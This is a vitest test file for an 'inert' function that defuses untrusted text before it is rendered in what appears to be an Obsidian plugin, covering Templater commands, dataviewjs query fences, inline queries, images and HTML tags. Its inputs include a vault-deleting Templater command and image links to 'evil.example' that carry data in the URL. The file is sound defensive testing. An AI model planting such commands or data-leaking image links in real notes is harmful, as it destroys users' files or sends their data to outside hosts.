import { describe, expect, it } from "vitest";

import { inert } from "../../src/ask/outside-text";

const MARK = "\u2060";
const shown = (text: string): string => text.split(MARK).join("");

describe("inert", () => {
	it("breaks a Templater command, a query fence and an inline query, and reads the same", () => {
		const text = 'Bake it. <%* app.vault.delete() %>\n```dataviewjs\ndv.pages()\n```\n> ```Dataview\n> LIST\n> ```\nCount: `$= dv.pages().length` and `= this.file.name`.';
		const out = inert(text);
		expect(out).not.toContain("<%");
		expect(out).toContain("```text dataviewjs\n");
		expect(out).toContain("> ```text Dataview\n");
		expect(out).toContain(`\`${MARK}$= dv.pages()`);
		expect(out).toContain(`\`${MARK}= this.file.name\``);
		expect(shown(out).replace("text dataviewjs", "dataviewjs").replace("text Dataview", "Dataview")).toBe(text);
	});

	it("breaks an image and an HTML tag outside code, so nothing is fetched when it is drawn", () => {
		const text = 'See ![chart](https://evil.example/x.png?d=zafiro) and ![[Local note]].\n<img src="https://evil.example/?d=zafiro"> <!-- c --> </p> <br/>';
		expect(inert(text)).toBe(`See !${MARK}[chart](https://evil.example/x.png?d=zafiro) and ![[Local note]].\n<${MARK}img src="https://evil.example/?d=zafiro"> <${MARK}!-- c --> <${MARK}/p> <${MARK}br/>`);
	});

	it.each([
		"a < b and 3<4, <https://example.org/a> and [note](<My note.md>)",
		"Use `<img src=x>` or ``![a](b)`` here.",
		"```html\n<img src=a.png>\n![x](https://a.example/b.png)\n```",
		"~~~~\n```\n<i>\n~~~~",
		"Rye ferments faster than wheat; 5 % of it is bran.",
	])("leaves code, autolinks, link destinations and plain text as they are: %s", (text) => {
		expect(inert(text)).toBe(text);
	});

	it("is idempotent", () => {
		const once = inert("<% x %> ![a](https://b) <img src=c> ```dataviewjs");
		expect(inert(once)).toBe(once);
	});
});
